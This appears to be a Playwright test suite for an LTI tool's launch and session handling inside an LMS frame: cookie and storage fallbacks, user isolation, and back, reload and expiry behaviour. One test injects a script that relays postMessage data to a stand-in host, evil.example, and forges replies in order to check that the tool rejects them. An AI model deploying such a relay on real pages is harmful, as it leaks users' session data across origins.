"""Every way in that is left when a browser keeps nothing, and nobody mixed up with anybody in any of them.

The LMS is at http://localhost and the tool at http://127.0.0.1: two sites to a browser, the second in a frame of the
first. `test_browsers.py` has the ways that need no more than a browser's own settings.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from time import monotonic

import pytest
from playwright.sync_api import BrowserContext, Frame, Page, Route, expect

from tests.lti.door import Door
from tests.lti.test_browsers import ALL_BLOCKED, KEEPS_NOTHING_IN_FRAMES, THIRD_PARTY_BLOCKED, Profile, came_in, profile
from tests.support.axe import violations
from tests.support.browser import arrived

pytestmark = pytest.mark.browser

__all__ = ["profile"]

THIRD_PARTY_ALLOWED = {"profile": {"cookie_controls_mode": 0, "block_third_party_cookies": False}}
NO_STORAGE_IN_FRAMES = """
if (window.top !== window) {
  Object.defineProperty(window, "localStorage", { get() { throw new DOMException("no", "SecurityError") } })
}
"""
NOTES = """
window.told = []
if (window.top === window) addEventListener("message", ({ data }) => window.told.push(data))
"""
WORDS = "The first thing that I would tell somebody who starts here tomorrow is that nobody minds a question."


def player(page: Page) -> Frame:
    """The player in the frame, once somebody has come in and it is ready."""
    arrived(page)
    frame = next(frame for frame in page.frames if "/play/" in frame.url)
    frame.locator("body[data-ready]").wait_for()
    return frame


def open_tool(door: Door, page: Page, person: str = "alice") -> Frame:
    """The LMS's page with the tool in its frame, as this person opens it."""
    door.sandbox.login_as(page, person, "tool")
    return player(page)


def lose_cookies_on_the_way(door: Door, context: BrowserContext) -> None:
    """A browser that forgets the tool's cookie while it is at the LMS, as some do in a chain of sites."""

    def lose(route: Route) -> None:
        context.clear_cookies()
        route.continue_()

    context.route(f"{door.sandbox.url}{door.sandbox.lms.personality.paths['auth']}*", lose)


def at_hello(frame: Frame) -> None:
    """Go to where one writes."""
    frame.evaluate("document.querySelector('.rail a[href=\"#/say-hello\"]').click()")
    frame.locator("[data-activity=say-hello] textarea").first.wait_for()


def name_of(frame: Frame) -> str:
    """Who the tool takes this page for."""
    return str(
        frame.evaluate(
            """async () => {
              const token = new URLSearchParams(location.hash.slice(1)).get("t")
              const answer = await fetch("/api/state", { headers: { Authorization: `Bearer ${token}` } })
              return (await answer.json()).learner.name
            }"""
        )
    )


# -- the ways in -------------------------------------------------------------------------------------------------------
def test_the_partitioned_cookie_alone_is_enough_in_a_frame(moodle_door: Door, profile: Profile) -> None:
    browser = profile(THIRD_PARTY_BLOCKED)
    browser.add_init_script(NO_STORAGE_IN_FRAMES)
    page = browser.new_page()
    assert name_of(open_tool(moodle_door, page)) == "Alice Archer"
    assert came_in(moodle_door) == 1


def test_without_a_cookie_our_own_storage_is_enough_in_a_frame(moodle_door: Door, profile: Profile) -> None:
    browser = profile(THIRD_PARTY_ALLOWED)  # else a frame of another site has no storage either
    lose_cookies_on_the_way(moodle_door, browser)
    page = browser.new_page()
    frame = open_tool(moodle_door, page)
    assert name_of(frame) == "Alice Archer"
    kept = "Object.keys(localStorage).filter((key) => key.startsWith('__Host-'))"
    assert frame.evaluate(kept) == [], "the secret is good once, and is not left lying about"


def test_without_either_the_platform_keeps_it(door: Door, context: BrowserContext) -> None:
    lose_cookies_on_the_way(door, context)
    context.add_init_script(NO_STORAGE_IN_FRAMES)
    context.add_init_script(NOTES)
    page = context.new_page()
    assert name_of(open_tool(door, page)) == "Alice Archer"
    assert [one["subject"] for one in page.evaluate("told")][:2] == ["lti.put_data", "lti.get_data"]


def test_a_platform_that_does_not_answer_holds_nobody_up(door: Door, context: BrowserContext) -> None:
    context.route("**/static/messages.js", silent)
    began = monotonic()
    page = context.new_page()
    door.sandbox.login_as(page, "alice", "tool")
    arrived(page)
    assert monotonic() - began < 20
    assert came_in(door) == 1


def silent(route: Route) -> None:
    route.fulfill(body="", content_type="text/javascript")


def test_where_the_platform_is_all_there_was_and_does_not_answer_there_is_a_new_tab(
    door: Door, context: BrowserContext
) -> None:
    context.route("**/static/messages.js", silent)
    context.add_init_script(KEEPS_NOTHING_IN_FRAMES)
    page = context.new_page()
    door.sandbox.login_as(page, "alice", "tool")
    button = page.frame_locator("iframe").get_by_role("button", name="Open in a new tab")
    button.wait_for()
    assert came_in(door) == 0
    with context.expect_page() as opened:
        button.click()
    opened.value.wait_for_url("**/play/**")
    assert came_in(door) == 1


EVIL = "http://evil.example"
HANDS_ON = f"""
const evil = document.createElement("iframe")
evil.src = "{EVIL}/"
document.body.append(evil)
addEventListener("message", ({{ data, source }}) => {{
  if (source !== evil.contentWindow) evil.contentWindow.postMessage(data, "*")
}})
"""
ANSWERS = """<script>
const kept = new Map()
addEventListener("message", ({ data }) => {
  if (data.subject === "lti.put_data") kept.set(data.key, data.value)
  const { subject, message_id, key } = data
  parent.frames[0].postMessage({ subject: `${subject}.response`, message_id, key, value: kept.get(key) }, "*")
})
</script>"""


def test_an_answer_from_another_origin_is_none(door: Door, context: BrowserContext) -> None:
    """It says what the platform would say, word for word; but whoever said it could say anything."""
    context.route("**/static/messages.js", lambda route: route.fulfill(body=HANDS_ON, content_type="text/javascript"))
    context.route(f"{EVIL}/", lambda route: route.fulfill(body=ANSWERS, content_type="text/html"))
    context.add_init_script(KEEPS_NOTHING_IN_FRAMES)
    page = context.new_page()
    page.add_init_script(NOTES)
    door.sandbox.login_as(page, "alice", "tool")
    page.frame_locator("iframe").first.get_by_role("button", name="Open in a new tab").wait_for()
    assert "lti.put_data" in [one["subject"] for one in page.evaluate("told")]
    assert came_in(door) == 0


def test_with_everything_blocked_the_new_tab_is_a_fresh_login(moodle_door: Door, context: BrowserContext) -> None:
    context.add_init_script(KEEPS_NOTHING_IN_FRAMES)
    page = context.new_page()
    moodle_door.sandbox.login_as(page, "alice", "tool")
    frame = page.frame_locator("iframe")
    frame.get_by_role("button", name="Open in a new tab").wait_for()
    for width in (1280, 650, 320):
        page.set_viewport_size({"width": width, "height": 700})
        assert violations(page.frames[1]) == []
        assert page.frames[1].evaluate("document.documentElement.scrollWidth <= innerWidth")
    asked: list[str] = []
    context.on("request", lambda request: asked.append(f"{request.url} {request.post_data}"))
    with context.expect_page() as opened:
        frame.get_by_role("button", name="Open in a new tab").click()
    opened.value.wait_for_url("**/play/**")
    began = next(one for one in asked if "/lti/login" in one)
    assert "login_hint=4" in began
    assert "id_token" not in began, "the launch that is over is not sent again"
    assert came_in(moodle_door) == 1


# -- nobody is anybody else --------------------------------------------------------------------------------------------
def test_two_people_in_two_tabs_at_once_stay_who_they_are(door: Door, profile: Profile) -> None:
    browser = profile(ALL_BLOCKED)
    tabs = {person: browser.new_page() for person in ("alice", "bob")}
    for person, page in tabs.items():
        page.goto(f"{door.sandbox.url}/as/{person}/tool/first-week", wait_until="commit")
    frames = {person: player(page) for person, page in tabs.items()}
    for person, frame in frames.items():
        frame.evaluate("location.reload()")
        tabs[person].wait_for_timeout(300)
    assert name_of(player(tabs["alice"])) == "Alice Archer"
    assert name_of(player(tabs["bob"])) == "Bob Brown"


@pytest.mark.parametrize("blocked", [False, True], ids=["storage allowed", "storage blocked"])
def test_two_people_one_after_the_other_never_meet_each_others_words(
    door: Door, context: BrowserContext, blocked: bool
) -> None:
    if blocked:
        context.add_init_script(NO_STORAGE_IN_FRAMES)
    page = context.new_page()
    alice = open_tool(door, page, "alice")
    at_hello(alice)
    with page.expect_response("**/api/draft"):
        alice.locator("[data-activity=say-hello] textarea").first.fill(WORDS)
    bob = open_tool(door, page, "bob")
    assert name_of(bob) == "Bob Brown"
    at_hello(bob)
    expect(bob.locator("[data-activity=say-hello] textarea").first).to_have_value("")
    assert WORDS not in bob.locator("body").inner_text()
    again = open_tool(door, page, "alice")
    assert name_of(again) == "Alice Archer"
    at_hello(again)
    expect(again.locator("[data-activity=say-hello] textarea").first).to_have_value(WORDS)


# -- back, and once more -----------------------------------------------------------------------------------------------
def test_back_goes_through_the_course_and_then_out_of_it(door: Door, context: BrowserContext) -> None:
    page = context.new_page()
    page.goto(f"{door.sandbox.url}/as/alice/")
    page.get_by_role("link", name="First week").first.click()
    frame = player(page)
    at_hello(frame)
    assert frame.evaluate("location.hash").endswith("at=say-hello")
    page.evaluate("history.back()")
    page.wait_for_timeout(800)
    assert "say-hello" not in frame.evaluate("location.hash")
    assert name_of(frame) == "Alice Archer"
    # No page of the way in stands in between: each would send her forward again, or show a launch that is used up.
    page.evaluate("history.back()")
    page.wait_for_url(f"{door.sandbox.url}/as/alice/")
    assert came_in(door) == 1


def test_back_to_a_launch_in_a_window_of_its_own_says_what_to_do(door: Door, context: BrowserContext) -> None:
    page = context.new_page()
    page.goto(f"{door.sandbox.url}/as/alice/")
    page.goto(f"{door.sandbox.url}/as/alice/launch/first-week", wait_until="commit")
    page.wait_for_url("**/play/**")
    page.locator("body[data-ready]").wait_for()
    page.go_back()
    page.wait_for_timeout(1500)
    # The LMS's page may send her off once more, which is a fresh launch; what must not be is a page without a way on.
    sure = [f"{door.sandbox.url}/as/alice/", "/play/"]
    assert any(part in page.url for part in sure), page.url


@pytest.mark.parametrize("blocked", [False, True], ids=["storage allowed", "storage blocked"])
def test_a_reload_of_the_player_needs_no_launch_and_keeps_the_place(
    door: Door, context: BrowserContext, blocked: bool
) -> None:
    if blocked:
        context.add_init_script(KEEPS_NOTHING_IN_FRAMES)
    page = context.new_page()
    frame = open_tool(door, page)
    at_hello(frame)
    frame.evaluate("location.reload()")
    page.wait_for_timeout(500)
    frame = player(page)
    assert name_of(frame) == "Alice Archer"
    assert frame.locator("[data-activity=say-hello]").is_visible()
    assert came_in(door) == 1


def test_a_reload_of_the_lms_s_page_is_a_fresh_launch_of_the_same_person(door: Door, context: BrowserContext) -> None:
    page = context.new_page()
    open_tool(door, page)
    page.reload()
    assert name_of(player(page)) == "Alice Archer"
    assert came_in(door) == 2


def test_a_reload_of_a_launch_that_was_refused_says_again_what_to_do(door: Door, context: BrowserContext) -> None:
    page = context.new_page()
    begun = door.begin("alice")
    token = door.token(begun, version="1.2.0")
    page.set_content(
        f'<form method="post" action="{door.here}/lti/launch"><input name="id_token" value="{token}">'
        f'<input name="state" value="{begun.state}"></form>'
    )
    page.evaluate("document.forms[0].submit()")
    page.get_by_text("speaks another version").wait_for()
    page.reload()
    page.get_by_text("speaks another version").wait_for()
    page.get_by_role("link", name="Back to Northside College").wait_for()


# -- away too long -----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("blocked", [False, True], ids=["storage allowed", "storage blocked"])
def test_a_visit_that_ends_in_the_middle_of_a_long_text_loses_no_word(
    door: Door, context: BrowserContext, blocked: bool, move_on: Callable[[timedelta], None]
) -> None:
    if blocked:
        context.add_init_script(KEEPS_NOTHING_IN_FRAMES)
    page = context.new_page()
    frame = open_tool(door, page)
    at_hello(frame)
    written = frame.locator("[data-activity=say-hello] textarea").first
    with page.expect_response("**/api/draft"):
        written.fill(WORDS)
    move_on(timedelta(hours=13))
    longer = WORDS + " " + "And then I would go on for a while about how it was for me. " * 20
    with page.expect_response("**/api/draft"):
        written.fill(longer.strip())
    frame.get_by_role("button", name="Send").first.click()
    expect(frame.locator("[data-activity=say-hello]")).to_contain_text("Open the course again")
    expect(written).to_have_value(longer.strip())
    assert violations(frame) == []
    again = open_tool(door, page)
    at_hello(again)
    expect(again.locator("[data-activity=say-hello] textarea").first).to_have_value(longer.strip())


@pytest.fixture
def move_on(door: Door) -> Callable[[timedelta], None]:
    """Let time go by for the tool; the LMS's clock goes along, or no launch would be believed any more."""

    def move(span: timedelta) -> None:
        before, theirs = door.tool.clock, door.sandbox.lms.clock
        object.__setattr__(door.tool, "clock", lambda: before() + span)
        door.sandbox.lms.clock = lambda: theirs() + span
        door.tool.doors.forget()

    return move
